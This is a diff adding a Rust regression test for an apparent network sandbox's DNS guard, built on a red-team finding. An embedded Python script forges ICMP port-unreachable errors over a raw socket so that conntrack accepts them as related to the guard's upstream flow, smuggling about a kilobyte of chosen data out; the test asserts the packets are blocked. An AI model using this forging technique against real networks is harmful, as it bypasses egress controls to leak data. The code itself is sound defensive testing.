@@ -990,3 +990,117 @@ fn a_squatter_that_sets_the_guards_mark_answers_nobody() {
         squatter.stderr()
     );
 }
+
+/// Asks the guard an allowed name (so it opens, uses and closes an upstream socket), then
+/// writes, from a raw socket, an ICMP port unreachable to the upstream (argv[1]) for each
+/// local port in turn, as if the sandbox (argv[2]) could not deliver the upstream's reply to
+/// it: the one for the guard's old port is related to its flow in conntrack. Each carries the
+/// marker `related-to-the-guard` in the quoted datagram's data, about 1 KB. Prints
+/// `sent N refused M`. Needs CAP_NET_RAW (root in a container keeps it).
+const RELATED_ICMP: &str = r#"
+import socket, struct
+if not cap_eff & (1 << 13):
+    sys.exit('want CAP_NET_RAW without CAP_NET_ADMIN, have %x' % cap_eff)
+upstream, me = sys.argv[1], sys.argv[2]
+def q(name, qid):
+    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
+    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1)
+def checksum(b):
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c.settimeout(3)
+c.sendto(q("via-guard.pool.example", 1), ("127.0.0.53", 53))
+c.recv(2000)
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+data = b"related-to-the-guard " * 48
+lo, hi = map(int, open('/proc/sys/net/ipv4/ip_local_port_range').read().split())
+sent = refused = 0
+for port in range(lo, hi + 1):
+    udp = struct.pack("!HHHH", 53, port, 8 + len(data), 0) + data
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                     socket.inet_aton(upstream), socket.inet_aton(me))
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + ip + udp
+    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
+    try:
+        raw.sendto(icmp, (upstream, 0))
+        sent += 1
+    except PermissionError:
+        refused += 1
+print('sent', sent, 'refused', refused)
+"#;
+
+/// Counts the IPv4 frames arriving on veth0 (the sandbox's link, seen from the world's
+/// network) that carry MARKER, for SECONDS; creates READY_FILE once bound. Prints the count.
+const COUNT_MARKED_V4: &str = r#"
+import socket, sys, time
+seconds, ready, marker = float(sys.argv[1]), sys.argv[2], sys.argv[3].encode()
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+s.bind(('veth0', 0))
+s.settimeout(0.2)
+open(ready, 'w').close()
+end, count = time.time() + seconds, 0
+while time.time() < end:
+    try:
+        frame, addr = s.recvfrom(65535)
+    except socket.timeout:
+        continue
+    if addr[2] != socket.PACKET_OUTGOING and marker in frame:
+        count += 1
+print(count)
+"#;
+
+/// Red team 2, F1 (its ICMP side): root in a container keeps CAP_NET_RAW and writes ICMP
+/// errors; one that quotes the guard's closed upstream flow is `related` to it in conntrack
+/// and was accepted as a reply, carrying a kilobyte of the writer's choice to the upstream
+/// resolver (and the same works against any peer of any flow in conntrack, e.g. one that
+/// connected in). ICMP a process writes leaves only over loopback now, whatever conntrack
+/// says of it: none of the errors reaches the upstream's link.
+#[test]
+fn icmp_errors_related_to_the_guards_flows_stay_in() {
+    let w = World::new();
+    w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
+    let path = w.write_file("guard.yaml", &guard_policy(&[DNS_V4]));
+    let _guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
+    let ready = w.dir().join("icmp-capture-ready");
+    let ready_arg = ready.to_str().expect("utf-8 path").to_string();
+    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{RELATED_ICMP}");
+    let (up, me) = (DNS_V4.to_string(), SANDBOX_V4.to_string());
+    let (capture, written) = std::thread::scope(|scope| {
+        let capture = scope.spawn(|| {
+            w.net_cmd(&[
+                PYTHON,
+                "-c",
+                COUNT_MARKED_V4,
+                "6",
+                &ready_arg,
+                "related-to-the-guard",
+            ])
+        });
+        assert!(
+            within(Duration::from_secs(5), || ready.exists()),
+            "the capture did not start"
+        );
+        let written = w.adversary_cmd(
+            Adversary::RootWithoutNetAdmin,
+            &[PYTHON, "-c", &script, &up, &me],
+        );
+        (capture.join().expect("the capture thread"), written)
+    });
+    assert!(written.success(), "{written}");
+    assert!(
+        written.stdout.starts_with("sent 0 refused "),
+        "an ICMP error left the sandbox: {written}\ncaptured on the upstream's link: {capture}"
+    );
+    assert!(capture.success(), "{capture}");
+    assert_eq!(
+        capture.stdout.trim(),
+        "0",
+        "ICMP errors written by a process reached the upstream's link"
+    );
+}
